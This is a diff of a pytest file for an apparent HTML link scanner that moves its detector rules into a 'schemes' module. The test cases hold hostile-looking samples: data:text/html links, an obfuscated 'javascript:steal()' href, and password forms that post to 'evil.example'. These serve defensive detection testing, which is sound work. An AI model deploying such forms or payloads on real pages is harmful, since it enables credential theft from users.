@@ -6,6 +6,7 @@ import pytest
 
 from gatepost.finding import Severity
 from gatepost.inspector.rules import markup as rules
+from gatepost.inspector.rules import schemes
 from judging import see
 from pages import linked, page
 
@@ -13,21 +14,21 @@ WORDS = "many words that nobody sees " * 60
 
 
 def test_data_url() -> None:  # link.data-url
-    assert see(rules.data_url, content=page("<a href='data:text/html;base64,PGI+'>x</a>")) is not None
-    assert see(rules.data_url, content=page("<iframe src='data:text/html,x'>")) is not None
-    assert see(rules.data_url, content=page("<img src='data:image/png;base64,x'>")) is None
-    assert see(rules.data_url, content=page("<a href='data:image/png;base64,x'>x</a>")) is None
+    assert see(schemes.data_url, content=page("<a href='data:text/html;base64,PGI+'>x</a>")) is not None
+    assert see(schemes.data_url, content=page("<iframe src='data:text/html,x'>")) is not None
+    assert see(schemes.data_url, content=page("<img src='data:image/png;base64,x'>")) is None
+    assert see(schemes.data_url, content=page("<a href='data:image/png;base64,x'>x</a>")) is None
 
 
 def test_javascript() -> None:  # link.javascript
-    assert see(rules.javascript, content=page("<a href='java\nscript:steal()'>x</a>")) is not None
+    assert see(schemes.javascript, content=page("<a href='java\nscript:steal()'>x</a>")) is not None
     for harmless in (
         "javascript:void(0)",
         "javascript:;",
         "javascript: window.print()",
         "https://a.example/javascript:",
     ):
-        assert see(rules.javascript, content=page(f"<a href='{harmless}'>x</a>")) is None
+        assert see(schemes.javascript, content=page(f"<a href='{harmless}'>x</a>")) is None
 
 
 @pytest.mark.parametrize(
@@ -38,28 +39,30 @@ def test_javascript() -> None:  # link.javascript
     ],
 )
 def test_program(target: str) -> None:  # link.program
-    assert see(rules.program, content=linked(target)) is not None
+    assert see(schemes.program, content=linked(target)) is not None
 
 
 @pytest.mark.parametrize(
     "target", ["file:///C:/x", "\\\\fileserver\\x", "file://files.example.net/x", "https://a.example/"]
 )
 def test_no_program(target: str) -> None:
-    assert see(rules.program, content=linked(target)) is None
+    assert see(schemes.program, content=linked(target)) is None
 
 
 def test_remote_form() -> None:  # link.remote-form
-    seen = see(rules.remote_form, content=page("<form action=https://evil.example/><input type=password></form>"))
+    seen = see(schemes.remote_form, content=page("<form action=https://evil.example/><input type=password></form>"))
     assert seen is not None
     assert seen.severity is Severity.DANGER
-    plain = see(rules.remote_form, content=page("<form action=https://search.example/><input></form>"))
+    plain = see(schemes.remote_form, content=page("<form action=https://search.example/><input></form>"))
     assert plain is not None
     assert plain.weight < 1
-    attached = see(rules.remote_form, content=page("<form action=//evil.example/><input type=password>", name="a.html"))
+    attached = see(
+        schemes.remote_form, content=page("<form action=//evil.example/><input type=password>", name="a.html")
+    )
     assert attached is not None
     assert attached.severity is Severity.DANGER
-    assert see(rules.remote_form, content=page("<form action=https://www.example.org/><input></form>")) is None
-    assert see(rules.remote_form, content=page("<form><input></form>")) is None
+    assert see(schemes.remote_form, content=page("<form action=https://www.example.org/><input></form>")) is None
+    assert see(schemes.remote_form, content=page("<form><input></form>")) is None
 
 
 def test_smuggling() -> None:  # html.smuggling
